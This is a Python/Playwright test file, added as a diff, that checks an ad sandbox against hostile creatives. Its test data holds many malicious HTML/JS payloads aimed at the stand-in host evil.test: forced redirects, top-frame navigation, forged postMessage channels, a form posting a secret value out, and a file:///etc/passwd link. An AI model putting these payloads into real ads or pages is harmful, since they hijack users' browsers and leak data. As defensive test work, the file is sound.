@@ -1,0 +1,241 @@
+"""The walls around a creative: whatever a hostile one tries, it keeps nothing, asks nothing and leads nowhere."""
+
+import pytest
+from ads_stage import VIEW, answer
+from playwright.sync_api import expect
+
+EVIL = "https://evil.test"
+ENOUGH = 900
+
+
+@pytest.fixture
+def hostile(ad, context):
+    """Shows a hostile creative and sees every request that leaves its page."""
+    asked, dialogs = [], []
+
+    def answer_for(route):
+        asked.append(route.request.url)
+        route.fulfill(status=200, content_type="text/html", body="<h1>Elsewhere</h1>")
+
+    context.route("https://*.test/**", answer_for)
+    context.route("http://*.test/**", answer_for)
+
+    def run(markup, show=True, **ext):
+        page = ad()
+        page.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        page.asked, page.dialogs = asked, dialogs
+        if show:
+            page.show(answer(f"<p id=mark>Creative</p>{markup}", width=320, height=250, **ext))
+            page.stage.event("shown")
+        return page
+
+    return run
+
+
+def settle(page, milliseconds=ENOUGH):
+    page.page.evaluate("time => new Promise(done => setTimeout(done, time))", milliseconds)
+
+
+def inside(page):
+    """The creative's own frame, to look into it."""
+    return page.page.locator("iframe[data-ad-frame]").element_handle().content_frame()
+
+
+def stays(page):
+    """The app's page is where it was, alone, and nothing was opened."""
+    assert page.page.url == page.stage.surface
+    assert len(page.page.context.pages) == 1
+    assert page.stage.opened() == [] and page.dialogs == []
+    assert [url for url in page.asked if url.startswith(EVIL)] == []
+
+
+def test_no_dialog_comes_up(hostile):
+    page = hostile(
+        "<script>window.said = [alert('a'), confirm('b'), prompt('c')]; print();"
+        "addEventListener('beforeunload', event => event.preventDefault());</script>"
+    )
+    settle(page)
+    assert inside(page).evaluate("() => said") == [None, False, None]
+    stays(page)
+
+
+def test_nothing_is_kept(hostile, context):
+    page = hostile("")
+    kept = inside(page).evaluate(
+        """async () => {
+          const tries = {
+            local: () => localStorage.setItem('x', '1'), session: () => sessionStorage.setItem('x', '1'),
+            database: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = () => fail(r.error); }),
+            caches: () => caches.open('x'), files: () => navigator.storage.getDirectory(),
+            worker: () => navigator.serviceWorker.register('sw.js'), locks: () => navigator.locks.request('x', () => 1),
+            storage: () => document.requestStorageAccess(),
+          };
+          document.cookie = 'x=1';
+          const kept = document.cookie ? ['cookie'] : [];
+          for (const [name, attempt] of Object.entries(tries)) {
+            try { await attempt(); kept.push(name); } catch {}
+          }
+          return kept;
+        }"""
+    )
+    assert kept == []
+    assert context.cookies() == []
+    stays(page)
+
+
+# Each tries to lead somewhere by itself. Those that move the creative's own frame end the ad.
+SELF = {
+    "location": f"<script>location = '{EVIL}/'</script>",
+    "replace": f"<script>location.replace('{EVIL}/')</script>",
+    "late": f"<script>setTimeout(() => {{ location.href = '{EVIL}/' }}, 300)</script>",
+    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
+    "data": "<script>location = 'data:text/html,<h1>Elsewhere</h1>'</script>",
+    "blob": "<script>location = URL.createObjectURL(new Blob(['<h1>Elsewhere</h1>'], { type: 'text/html' }))</script>",
+    "blank": "<script>setTimeout(() => { location = 'about:blank' }, 100)</script>",
+}
+ELSEWHERE = {
+    "self-link": f"<a id=x href='{EVIL}/'>x</a><script>HTMLAnchorElement.prototype.click.call(x)</script>",
+    "top": f"<script>try {{ top.location = '{EVIL}/' }} catch {{}}</script>",
+    "parent": f"<script>try {{ parent.location.replace('{EVIL}/') }} catch {{}}</script>",
+    "open": f"<script>window.open('{EVIL}/'); open('{EVIL}/', '_top')</script>",
+    "inner-open": f"<iframe id=f></iframe><script>f.contentWindow.open('{EVIL}/', '_blank')</script>",
+    "blank-link": f"<a id=x target=_blank href='{EVIL}/'>x</a><script>x.click()</script>",
+    "top-link": f"<a id=x target=_top href='{EVIL}/'>x</a><script>x.click()</script>",
+    "fake-tap": f"<a id=x href='{EVIL}/'>x</a><script>for (const kind of ['pointerdown', 'pointerup', 'click']) x.dispatchEvent(new PointerEvent(kind, {{ bubbles: true, cancelable: true }}))</script>",
+    "form": f"<form id=x action='{EVIL}/' target=_top></form><script>x.submit(); x.requestSubmit()</script>",
+    "form-post": f"<form id=x method=post action='{EVIL}/'></form><script>x.submit()</script>",
+    "download": "<a id=x download=x.html href='data:text/html,x'>x</a><script>x.click()</script>",
+    "refresh-inner": f"<iframe srcdoc=\"<script>top.location = '{EVIL}/'</script>\"></iframe>",
+    "fullscreen": "<script>document.documentElement.requestFullscreen().catch(() => {})</script>",
+    "plugin": f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x.pdf'><applet code='{EVIL}/x'></applet>",
+    "worker": f"<script>try {{ new Worker('{EVIL}/w.js') }} catch {{}}</script>",
+    "plain-http": "<img src='http://evil.test/a.png'><script src='http://evil.test/a.js'></script>",
+    "forged-line": f"""<script>
+      const {{ port1, port2 }} = new MessageChannel();
+      parent.postMessage({{ inlayAd: 'line' }}, '*', [port2]);
+      for (const said of [{{ painted: true }}, {{ tap: true }}, {{ open: '{EVIL}/' }}]) port1.postMessage(said);
+      parent.postMessage({{ tap: true, open: '{EVIL}/' }}, '*');
+      parent.postMessage({{ inlayEnvironment: {{ colorScheme: 'dark' }} }}, '*');
+    </script>""",
+}
+
+
+@pytest.mark.parametrize("way", SELF)
+def test_a_creative_that_leads_its_frame_away_by_itself_is_taken_away(hostile, way):
+    page = hostile("", show=False)
+    page.stage.show(answer(f"<p id=mark>Creative</p>{SELF[way]}", width=320, height=250, close=20_000))
+    # Nobody has to wait for the lock, and nothing was counted as a click.
+    page.stage.wait(lambda report: "left its frame" in report.get("event", ""))
+    expect(page.box).to_have_count(0)
+    stays(page)
+    assert "clicked" not in page.stage.events()
+
+
+@pytest.mark.parametrize("way", ELSEWHERE)
+def test_a_creative_leads_nobody_elsewhere_by_itself(hostile, way):
+    page = hostile(ELSEWHERE[way])
+    settle(page)
+    expect(page.frame.locator("#mark")).to_be_visible()
+    stays(page)
+    assert not [url for url in page.asked if "evil.test" in url]
+
+
+def test_a_tap_that_moves_the_frame_brings_the_creative_back(hostile):
+    page = hostile(f"<button id=go onclick=\"location = '{EVIL}/'\">Go</button>")
+    page.frame.locator("#go").click()
+    settle(page, 2500)
+    expect(page.frame.locator("#mark")).to_be_visible()
+    stays(page)
+    assert page.stage.called(VIEW) == [VIEW]
+
+
+@pytest.mark.parametrize("target", ["", "target=_top", "target=_self", "target=_blank", "target=other"])
+def test_a_tapped_link_goes_to_the_browser_and_never_anywhere_else(hostile, target):
+    page = hostile(f"<a id=go {target} href='{EVIL}/offer'>Go</a>")
+    page.frame.locator("#go").click()
+    page.stage.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
+    settle(page, 300)
+    expect(page.frame.locator("#mark")).to_be_visible()
+    assert page.page.url == page.stage.surface and len(page.page.context.pages) == 1
+    assert page.asked == []
+
+
+def test_a_tap_is_good_for_one_second(hostile):
+    page = hostile(f"<button id=go onclick=\"setTimeout(() => window.open('{EVIL}/late'), 1600)\">Go</button>")
+    page.frame.locator("#go").click()
+    settle(page, 2500)
+    stays(page)
+
+
+@pytest.mark.parametrize("address", ["javascript:parent.hit=1", "data:text/html,x", "mailto:a@b.test", "tel:1",
+                                     "itms-apps://x", "intent://x#Intent;end", "file:///etc/passwd", "about:blank"])
+def test_a_tap_opens_nothing_but_the_web(hostile, address):
+    page = hostile(f"<a id=go href='{address}'>Go</a>")
+    page.frame.locator("#go").click()
+    settle(page)
+    expect(page.frame.locator("#mark")).to_be_visible()
+    stays(page)
+
+
+def test_a_form_that_a_user_sends_goes_nowhere(hostile):
+    page = hostile(f"<form action='{EVIL}/' method=post><input name=a value=secret><button id=go>Send</button></form>")
+    page.frame.locator("#go").click()
+    settle(page)
+    expect(page.frame.locator("#mark")).to_be_visible()
+    stays(page)
+
+
+def test_no_power_of_the_device_is_granted(hostile, context):
+    context.grant_permissions(["geolocation", "camera", "microphone", "clipboard-read"])
+    page = hostile("")
+    granted = inside(page).evaluate(
+        """async () => {
+          const tries = {
+            place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
+            camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+            sound: () => navigator.mediaDevices.getUserMedia({ audio: true }),
+            screen: () => navigator.mediaDevices.getDisplayMedia(), clipboard: () => navigator.clipboard.readText(),
+            write: () => navigator.clipboard.writeText('x'), awake: () => navigator.wakeLock.request(),
+            bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
+            usb: () => navigator.usb.requestDevice({ filters: [] }), midi: () => navigator.requestMIDIAccess(),
+            pointer: () => document.body.requestPointerLock(), share: () => navigator.share({ url: 'https://a.test' }),
+            notice: async () => { if (await Notification.requestPermission() !== 'granted') throw 0; },
+          };
+          const granted = [];
+          for (const [name, attempt] of Object.entries(tries)) {
+            try { await attempt(); granted.push(name); } catch {}
+          }
+          return granted;
+        }"""
+    )
+    assert granted == []
+    stays(page)
+
+
+def test_the_app_s_page_is_out_of_reach(hostile):
+    page = hostile("")
+    reached = inside(page).evaluate(
+        """() => {
+          const tries = [() => parent.document.body, () => parent.inlay, () => top.location.href,
+            () => frameElement.src, () => parent.localStorage, () => parent.frames[0].document.body];
+          return tries.map((attempt, index) => { try { return attempt() ? index : -1; } catch { return -1; } }).filter(x => x >= 0);
+        }"""
+    )
+    assert [index for index in reached if index != 5] == []
+    assert "inlay" not in inside(page).evaluate("() => Object.keys(window).join()")
+
+
+def test_pictures_and_scripts_of_the_creative_load_over_https(hostile):
+    page = hostile("<img src='https://cdn.test/a.png'><script src='https://cdn.test/a.js'></script><style>p { background: url(https://cdn.test/b.png) }</style>")
+    settle(page)
+    assert {"https://cdn.test/a.png", "https://cdn.test/a.js", "https://cdn.test/b.png"} <= set(page.asked)
+
+
+def test_a_creative_that_writes_itself_anew_is_still_the_creative(hostile):
+    later = f"<script>setTimeout(() => {{ document.open(); document.write('<p id=mark>Anew</p><a id=go href=\"{EVIL}/offer\">Go</a>'); document.close(); }}, 200)</script>"
+    page = hostile(later)
+    expect(page.frame.locator("#mark")).to_have_text("Anew")
+    settle(page, 2000)
+    page.frame.locator("#go").click()
+    page.stage.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
+    expect(page.frame.locator("#mark")).to_have_text("Anew")
